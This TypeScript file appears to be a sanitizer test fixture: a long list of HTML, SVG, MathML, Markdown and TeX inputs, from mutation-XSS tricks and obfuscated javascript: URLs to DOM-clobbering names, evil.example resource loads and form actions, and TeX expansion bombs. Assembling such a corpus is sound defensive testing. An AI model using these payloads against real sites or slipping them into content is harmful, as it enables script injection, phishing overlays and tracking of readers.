/**
 * Texts that try to run a script, to fetch something, to style or restructure the page, or to take the place of what the
 * page has by name: what browsers' sanitisers have failed at over the years, and what Markdown and TeX add to it.
 */

/** Sets `globalThis.ran`, in each way a handler or an address may be written. */
const script = "globalThis.ran=1";

/** Ways to write an address that runs it. */
const addresses: readonly string[] = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `\u0001javascript:${script}`,
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  `java\rscript:${script}`,
  `javascript&colon;${script}`,
  `javascript&#58;${script}`,
  `javascript&#x3A;${script}`,
  `&#106;avascript:${script}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${script}`,
  `&#0000106avascript:${script}`,
  `java&Tab;script:${script}`,
  `java&NewLine;script:${script}`,
  `javascript%3A${script}`,
  `%6Aavascript:${script}`,
  `javascript://%0a${script}`,
  `javascript\\:${script}`,
  `data:text/html,<script>${script}</script>`,
  "data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+",
  `data:image/svg+xml,<svg onload="${script}"/>`,
  `vbscript:${script}`,
  `view-source:javascript:${script}`,
  "blob:https://evil.example/1",
  "file:///etc/passwd",
];

/** Ways to name an address in Markdown, in HTML and in TeX. */
const namings: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}> "b")`,
  (address) => `![a](${address})`,
  (address) => `[a][b]\n\n[b]: ${address}`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">a</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<math><mi href="${address}" xlink:href="${address}">a</mi></math>`,
  (address) => `$\\href{${address}}{a}$`,
];

/** HTML: each line is one. */
const markup = String.raw`
<script>${script}</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script src="data:text/javascript,${script}"></script>
<scr<script>ipt>${script}</scr</script>ipt>
<script/x>${script}</script>
<script type="module">${script}</script>
<script>/*</script><script>*/${script}</script>
<img src=x onerror=${script}>
<img src=x onerror="${script}">
<img src="x" onerror='${script}'//
<img/src/onerror=${script}>
<img src="https://evil.example/a.png">
<img srcset="https://evil.example/a.png 1x">
<img src=//evil.example/b.png loading=eager>
<picture><source srcset="https://evil.example/c.png"><img src=x></picture>
<image src=x onerror=${script}>
<svg onload=${script}>
<svg><script>${script}</script></svg>
<svg><script href="data:,${script}"/></svg>
<svg><animate onbegin=${script} attributeName=x dur=1s>
<svg><a xlink:href="javascript:${script}"><text y=20>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=${script}></svg>#x"/></svg>
<svg><use xlink:href="https://evil.example/a.svg#x"/></svg>
<svg><image href="https://evil.example/a.png"/></svg>
<svg><foreignObject><iframe src="javascript:${script}"></iframe></foreignObject></svg>
<svg><set attributeName=href to="javascript:${script}"/></svg>
<svg><style>@import "https://evil.example/a.css"</style></svg>
<svg><desc><img src=x onerror=${script}></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=${script}>">
<svg><p><style><g title="</style><img src onerror=${script}>">
<svg><title><img src=x onerror=${script}></title></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=${script}></style></mglyph></table></mtext></math>
<math><mtext><img src=x onerror=${script}></mtext></math>
<math><mi><script>${script}</script></mi></math>
<math><mi//xlink:href="data:x,<script>${script}</script>">
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${script}">a</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=${script}></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>${script}</script></annotation-xml></math>
<math><semantics><annotation encoding="application/x-tex"><img src=x onerror=${script}></annotation></semantics></math>
<math><mglyph src="https://evil.example/a.png"/></math>
<math><mstyle style="background:url(https://evil.example/a.png)"><mi>x</mi></mstyle></math>
<math><mi class="unseen" id="page">x</mi></math>
<math href="javascript:${script}"><mi>x</mi></math>
<math><mo onclick="${script}" tabindex=1 autofocus onfocus="${script}">+</mo></math>
<math><mspace width="100%" height="9999999em" mathbackground="url(https://evil.example/a.png)"/></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${script} src>">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${script}'>"></style></mtext></svg></mglyph></option></mtext></math>
<noscript><p title="</noscript><img src=x onerror=${script}>">
<textarea><img title="</textarea><img src=x onerror=${script}>">
<title><img title="</title><img src=x onerror=${script}>">
<xmp><p title="</xmp><svg/onload=${script}>">
<noembed><img title="</noembed><img src=x onerror=${script}>"></noembed>
<noframes><img title="</noframes><img src=x onerror=${script}>"></noframes>
<plaintext><img src=x onerror=${script}>
<listing>&lt;img onerror="${script}" src=x&gt;</listing>
<template><img src=x onerror=${script}></template>
<template shadowrootmode="open"><img src=x onerror=${script}></template>
<iframe src="javascript:${script}"></iframe>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<iframe onload=${script}></iframe>
<frameset onload=${script}><frame src="https://evil.example/"></frameset>
<object data="javascript:${script}"></object>
<object data="https://evil.example/a.swf" type="application/x-shockwave-flash"></object>
<embed src="https://evil.example/a.swf">
<embed src="data:text/html,<script>${script}</script>">
<applet code="a.class" codebase="https://evil.example/"></applet>
<portal src="https://evil.example/"></portal>
<base href="https://evil.example/">
<base target="_top"><a href="x">y</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="refresh" content="0;javascript:${script}">
<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
<meta name="referrer" content="unsafe-url">
<link rel="stylesheet" href="https://evil.example/a.css">
<link rel="prefetch" href="https://evil.example/">
<link rel="dns-prefetch" href="//evil.example">
<link rel="preconnect" href="https://evil.example/">
<link rel="manifest" href="https://evil.example/m.json">
<link rel="icon" href="https://evil.example/i.png">
<style>body{display:none}</style>
<style>@import url(https://evil.example/a.css);</style>
<style>*{background:url(https://evil.example/a.png)}</style>
<style onload=${script}></style>
<p style="position:fixed;inset:0;background:red;z-index:9999">a</p>
<p style="background:url(https://evil.example/a.png)">a</p>
<p style="width:expression(${script})">a</p>
<p style="-moz-binding:url(https://evil.example/a.xml#a)">a</p>
<div class="unseen" id="page">a</div>
<table background="https://evil.example/a.png"><tr><td background="https://evil.example/a.png">a</td></tr></table>
<body background="https://evil.example/a.png" onload=${script}>
<html onmouseover=${script}>
<form action="https://evil.example/"><input name=a value=b><button>c</button></form>
<form id=a><input name=attributes><input name=parentNode></form>
<form><input name="nodeName"><input name="childNodes"></form>
<form><input type=image src="https://evil.example/a.png"></form>
<form><button formaction="javascript:${script}">a</button></form>
<form id="document"><input name="cookie"></form>
<isindex action="javascript:${script}" type=image>
<input autofocus onfocus=${script}>
<input type="image" src=x onerror=${script}>
<input onblur=${script} autofocus><input autofocus>
<select autofocus onfocus=${script}><option>a</select>
<textarea autofocus onfocus=${script}></textarea>
<keygen autofocus onfocus=${script}>
<button onclick=${script} autofocus>a</button>
<button popovertarget=page>a</button>
<dialog open>a</dialog>
<p popover id=x>a</p>
<details ontoggle=${script} open>a</details>
<details open ontoggle="${script}"><summary onclick="${script}">a</summary>b</details>
<details/open/ontoggle=${script}>
<video src="https://evil.example/a.mp4" autoplay onloadstart=${script}></video>
<video poster="https://evil.example/a.png"><source onerror=${script}></video>
<audio src=x onerror=${script}></audio>
<track src="https://evil.example/a.vtt">
<marquee onstart=${script}>a</marquee>
<bgsound src="https://evil.example/a.wav">
<canvas id="canvas" onclick=${script}></canvas>
<a href="x" ping="https://evil.example/">a</a>
<a href="x" download="a.exe">a</a>
<a href="https://a.example" target="_top" rel="opener">a</a>
<a name="page">a</a><a id="deldot">b</a><a id="deldot" name="state">c</a>
<a id="__proto__" name="toString">a</a>
<img name="getElementById"><img name="body"><img id="defaultView">
<iframe name="self"></iframe><img name="currentScript">
<p id="constructor" class="__proto__">a</p>
<p data-a="b" aria-label="c" role="alert" tabindex="5" contenteditable accesskey="k" draggable="true">a</p>
<p slot="a" is="b-c" part="d" exportparts="e" itemscope itemid="f" nonce="g">a</p>
<x-element onclick=${script}>a</x-element>
<p onclick=${script} onpointerover=${script} onanimationstart=${script}>a</p>
<a onmouseover=${script} href="#">a</a>
<a href="#" onclick=${script}><b onfocus=${script} tabindex=0>a</b></a>
<!--<img src="--><img src=x onerror=${script}>//">
<!--> <img src=x onerror=${script}> -->
<!--!><img src=x onerror=${script}>
<!-- --!><img src=x onerror=${script}> -->
<![CDATA[<img src=x onerror=${script}>]]>
<?xml version="1.0"?><img src=x onerror=${script}>
<?xml-stylesheet href="javascript:${script}"?>
<!DOCTYPE html [<!ENTITY a "<img src=x onerror=${script}>">]>&a;
<!ELEMENT a><img src=x onerror=${script}>
</p><img src=x onerror=${script}>
<<img src=x onerror=${script}>
<img src="x" onerror="${script}" <b>
<a/href=javascript&colon;${script}>a</a>
<b <script>${script}</script>0
<%<!--'%><script>${script}</script -->
<i/onclick=URL=name>a</i>
<x onclick=${script}>a</x>
"><script>${script}</script>
'><img src=x onerror=${script}>
--><img src=x onerror=${script}>
]]><img src=x onerror=${script}>
</code></pre><img src=x onerror=${script}>
</math><img src=x onerror=${script}>
</summary></details><img src=x onerror=${script}>
&lt;script&gt;${script}&lt;/script&gt;
&amp;lt;img src=x onerror=${script}&amp;gt;
\u003cimg src=x onerror=${script}\u003e
%3Cimg%20src%3Dx%20onerror%3D${script}%3E
+ADw-script+AD4-${script}+ADw-/script+AD4-
`
  .trim()
  .split("\n");

/** Markdown and TeX. */
const texts: readonly string[] = [
  `[a](https://b.example "c\\" onmouseover=${script} d=\\"")`,
  `[a](https://b.example 'c" onmouseover="${script}')`,
  `[a](https://b.example/"onmouseover="${script})`,
  `[a" onmouseover="${script}](https://b.example)`,
  `![a" onerror="${script}](https://evil.example/a.png)`,
  "![a](https://evil.example/a.png)",
  "![a](//evil.example/a.png)",
  "![a][b]\n\n[b]: https://evil.example/a.png",
  "[![a](https://evil.example/a.png)](https://evil.example/)",
  `[a](<https://b.example/><img src=x onerror=${script}>)`,
  `[a]\n\n[a]: https://b.example "<img src=x onerror=${script}>"`,
  `\`\`\`"><img src=x onerror=${script}>\na\n\`\`\``,
  `\`\`\`html\n<img src=x onerror=${script}>\n\`\`\``,
  `\`<img src=x onerror=${script}>\``,
  `    <img src=x onerror=${script}>`,
  `# <img src=x onerror=${script}>`,
  `# a {#page .unseen onclick=${script}}`,
  `| <img src=x onerror=${script}> |\n|-|\n| <svg onload=${script}> |`,
  `- <img src=x onerror=${script}>\n- [ ] <input onfocus=${script} autofocus>`,
  `> <iframe src="javascript:${script}">`,
  `*a <img src=x* onerror=${script}>`,
  `<https://b.example/"onclick="${script}>`,
  `https://b.example/"onclick="${script}`,
  `www.b.example/<img/src/onerror=${script}>`,
  `a@b.example"onclick="${script}`,
  `<details>\n<summary><img src=x onerror=${script}></summary>\n<img src=x onerror=${script}>\n</details>`,
  `<details open ontoggle=${script}>\na\n</details>`,
  `<sub onclick=${script}>a</sub><kbd>${"<img src=x onerror=1>"}</kbd>`,
  `<sub><sup><img src=x onerror=${script}></sup></sub>`,
  `$<img src=x onerror=${script}>$`,
  `$\\text{<img src=x onerror=${script}>}$`,
  `$\\text{</mtext><img src=x onerror=${script}>}$`,
  `$\\text{</annotation></semantics></math><img src=x onerror=${script}>}$`,
  `$\\frac{"><img src=x onerror=${script}>$`,
  `$$\\foo{" onmouseover="${script}}$$`,
  "$\\htmlClass{unseen}{a}$ $\\htmlId{page}{a}$",
  `$\\htmlStyle{position:fixed}{a}$ $\\htmlData{onclick=${script}}{a}$`,
  `$\\url{javascript:${script}}$`,
  "$\\includegraphics[height=9em]{https://evil.example/a.png}$",
  "$\\includegraphics{data:image/svg+xml,<svg onload=1>}$",
  `$\\color{red" onclick="${script}}a$`,
  "$\\textcolor{url(https://evil.example/a.png)}{a}$",
  `$\\colorbox{javascript:${script}}{a}$`,
  `$\\fcolorbox{red}{"onclick=${script}}{a}$`,
  "$\\rule{9999999em}{9999999em}\\kern-9999em\\raisebox{9999em}{a}$",
  "$\\def\\a{\\a\\a}\\a$",
  "$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{x}}}}$",
  "$\\newcommand{\\__proto__}{a}$ $\\__proto__$ $\\constructor$ $\\toString$",
  `$\\char"3C\\char"73$ $\\unicode{x3C}$`,
  `\\(<img src=x onerror=${script}>\\) \\[</p><img src=x onerror=${script}>\\]`,
  `$$\n<script>${script}</script>\n$$`,
  `$\\tag{<img src=x onerror=${script}>}$ $\\label{page}\\ref{page}$`,
  `$\\begin{array}{l<script>${script}</script>}a\\end{array}$`,
  `$\\verb|<img src=x onerror=${script}>|$`,
  "__proto__ constructor [__proto__] [constructor]\n\n[__proto__]: a\n[constructor]: b",
  "[a][__proto__] [b][constructor] [c][toString] ![d][hasOwnProperty]",
  "```__proto__\na\n```\n\n```constructor\nb\n```",
  `\u202e<img src=x onerror=${script}>\u202c`,
  `<img\u0000 src=x onerror=${script}>`,
  `<scr\u0000ipt>${script}</scr\u0000ipt>`,
  `\ufeff<script>${script}</script>`,
  `＜script＞${script}＜/script＞`,
  `<img src=x onerror\u2028=${script}>`,
  `\ud800<img src=x onerror=${script}>`,
  `${"<b>".repeat(600)}<img src=x onerror=${script}>`,
  `${"> ".repeat(3000)}<img src=x onerror=${script}>`,
  `${"[".repeat(3000)}a${"](javascript:1)".repeat(3000)}`,
  `${"<details>\n".repeat(2000)}<img src=x onerror=${script}>`,
];

export const hostileTexts: readonly string[] = [
  ...markup,
  ...texts,
  ...addresses.flatMap((address) => namings.map((naming) => naming(address))),
];
